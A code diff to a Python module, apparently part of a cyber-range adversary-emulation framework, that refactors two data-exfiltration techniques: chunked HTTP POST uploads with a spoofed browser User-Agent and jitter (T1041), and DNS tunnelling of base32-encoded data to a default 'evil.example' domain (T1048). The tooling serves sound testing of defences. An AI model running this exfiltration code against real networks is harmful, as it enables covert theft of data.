@@ -20,7 +20,7 @@ import random
 import secrets
 import time
 
-from cyberrange.attack.spec import Param, Technique
+from cyberrange.attack.spec import Param, technique
 from cyberrange.attack.techniques.c2 import (
     DnsClient,
     first_rdata,
@@ -32,15 +32,23 @@ from cyberrange.attack.techniques.common import Result
 
 MAX_DOCUMENT = 50_000_000
 
+_DOC = {
+    "data": Param(str, "", "the text to exfiltrate (empty: generate `size` bytes)"),
+    "size": Param(int, 4096, "bytes of generated document when `data` is empty"),
+    "seed": Param(int, 7, "seed of the generated document and of the jitter"),
+    "session": Param(str, "", "session label (random if empty)"),
+}
+
 
 def make_document(params: dict) -> bytes:
-    data = params.get("data")
+    """The document of a step: ``data``, or ``size`` bytes generated from ``seed``."""
+    data = params["data"]
     if data:
         return str(data).encode()
-    size = int(params.get("size", 4096))
+    size = int(params["size"])
     if not 0 < size <= MAX_DOCUMENT:
         raise ValueError(f"size must be 1..{MAX_DOCUMENT} bytes")
-    rng = random.Random(int(params.get("seed", 7)))
+    rng = random.Random(int(params["seed"]))
     words = ("grid", "convoy", "fuel", "ammo", "relay", "sector", "bravo", "uplink", "north",
              "patrol", "depot", "sortie", "0400Z", "hold", "advance", "resupply")
     out, n = [], 0
@@ -61,21 +69,31 @@ def _doc_or_error(params: dict, res: Result) -> bytes | None:
 
 
 # --------------------------------------------------------------------------- T1041
+@technique(
+    "T1041", "Exfiltration Over C2 Channel (HTTP POST uploads)", "exfiltration",
+    {**_DOC,
+     "chunk": Param(int, 4096, "bytes per POST"),
+     "rate": Param((int, float), 0, "POSTs per second (0: back to back)"),
+     "jitter": Param((int, float), 0, "fraction of the spacing varied at random"),
+     "path": Param(str, "/upload", "URL path prefix of the uploads"),
+     "port": Param(int, 8443, "listener port for targets given without :port"),
+     "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header")},
+    produces=("bytes", "chunks", "sha256", "session", "complete"), target_kind="service")
 def http_exfil(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
     doc = _doc_or_error(params, res)
     if doc is None:
         return res
-    chunk = max(1, min(int(params.get("chunk", 4096)), 1_000_000))
-    rate = float(params.get("rate", 0) or 0)          # chunks per second (0: back to back)
-    jitter = float(params.get("jitter", 0))
-    ua = str(params.get("user_agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))
-    prefix = str(params.get("path", "/upload")).rstrip("/")
-    session = str(params.get("session") or secrets.token_hex(4))
-    ip, port = parse_service(targets[0], params.get("port", 8443))
+    chunk = max(1, min(int(params["chunk"]), 1_000_000))
+    rate = float(params["rate"] or 0)          # chunks per second (0: back to back)
+    jitter = float(params["jitter"])
+    ua = str(params["user_agent"])
+    prefix = str(params["path"]).rstrip("/")
+    session = str(params["session"] or secrets.token_hex(4))
+    ip, port = parse_service(targets[0], params["port"])
     if len(targets) > 1:
         res.log.append(f"exfiltrating to one listener: {ip}:{port}")
-    rng = random.Random(params.get("seed"))
+    rng = random.Random(params["seed"])
     pieces = [doc[i:i + chunk] for i in range(0, len(doc), chunk)]
     sent_bytes, statuses = 0, {}
     for seq, piece in enumerate(pieces):
@@ -130,21 +148,31 @@ def dns_names(doc: bytes, session: str, domain: str, chars: int) -> list[str]:
     return names
 
 
+@technique(
+    "T1048", "Exfiltration Over Alternative Protocol: DNS tunnelling", "exfiltration",
+    {**_DOC,
+     "domain": Param(str, "evil.example", "the attacker's domain"),
+     "rate": Param((int, float), 20, "queries per second (0: back to back)"),
+     "jitter": Param((int, float), 0.1, "fraction of the spacing varied at random"),
+     "chars": Param(int, 180, "base32 characters per query name (at most what fits)"),
+     "timeout": Param((int, float), 1.0, "seconds to wait for each answer"),
+     "retries": Param(int, 2, "resends of an unanswered query")},
+    produces=("bytes", "queries", "sha256", "session", "complete"), target_kind="service")
 def dns_exfil(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
     doc = _doc_or_error(params, res)
     if doc is None:
         return res
-    domain = str(params.get("domain", "evil.example")).strip(".").lower()
-    session = str(params.get("session") or secrets.token_hex(4)).lower()
-    rate = float(params.get("rate", 20) or 0)
-    jitter = float(params.get("jitter", 0.1))
-    rng = random.Random(params.get("seed"))
-    names = dns_names(doc, session, domain, int(params.get("chars", 180)))
+    domain = str(params["domain"]).strip(".").lower()
+    session = str(params["session"] or secrets.token_hex(4)).lower()
+    rate = float(params["rate"] or 0)
+    jitter = float(params["jitter"])
+    rng = random.Random(params["seed"])
+    names = dns_names(doc, session, domain, int(params["chars"]))
     ip, port = parse_service(targets[0], 53)
     if len(targets) > 1:
         res.log.append(f"exfiltrating through one server: {ip}:{port}")
-    client = DnsClient(ip, port, float(params.get("timeout", 1.0)), int(params.get("retries", 2)))
+    client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
     answered, lost, final = 0, 0, None
     t0 = time.monotonic()
     due = t0
@@ -176,40 +204,3 @@ def dns_exfil(targets: list[str], params: dict) -> Result:
     res.outcome = "succeeded" if complete else ("blocked" if answered == 0 else "failed")
     res.end = time.time()
     return res
-
-
-_DOC = {
-    "data": Param(str, "", "the text to exfiltrate (empty: generate `size` bytes)"),
-    "size": Param(int, 4096, "bytes of generated document when `data` is empty"),
-    "seed": Param(int, 7, "seed of the generated document and of the jitter"),
-    "session": Param(str, "", "session label (random if empty)"),
-}
-
-SPECS = [
-    Technique(
-        "T1041", "Exfiltration Over C2 Channel (HTTP POST uploads)", "exfiltration",
-        {**_DOC,
-         "chunk": Param(int, 4096, "bytes per POST"),
-         "rate": Param((int, float), 0, "POSTs per second (0: back to back)"),
-         "jitter": Param((int, float), 0, "fraction of the spacing varied at random"),
-         "path": Param(str, "/upload", "URL path prefix of the uploads"),
-         "port": Param(int, 8443, "listener port for targets given without :port"),
-         "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header")},
-        produces=("bytes", "chunks", "sha256", "session", "complete"),
-        target_kind="service",
-    ),
-    Technique(
-        "T1048", "Exfiltration Over Alternative Protocol: DNS tunnelling", "exfiltration",
-        {**_DOC,
-         "domain": Param(str, "evil.example", "the attacker's domain"),
-         "rate": Param((int, float), 20, "queries per second (0: back to back)"),
-         "jitter": Param((int, float), 0.1, "fraction of the spacing varied at random"),
-         "chars": Param(int, 180, "base32 characters per query name (at most what fits)"),
-         "timeout": Param((int, float), 1.0, "seconds to wait for each answer"),
-         "retries": Param(int, 2, "resends of an unanswered query")},
-        produces=("bytes", "queries", "sha256", "session", "complete"),
-        target_kind="service",
-    ),
-]
-
-FUNCS = {"T1041": http_exfil, "T1048": dns_exfil}
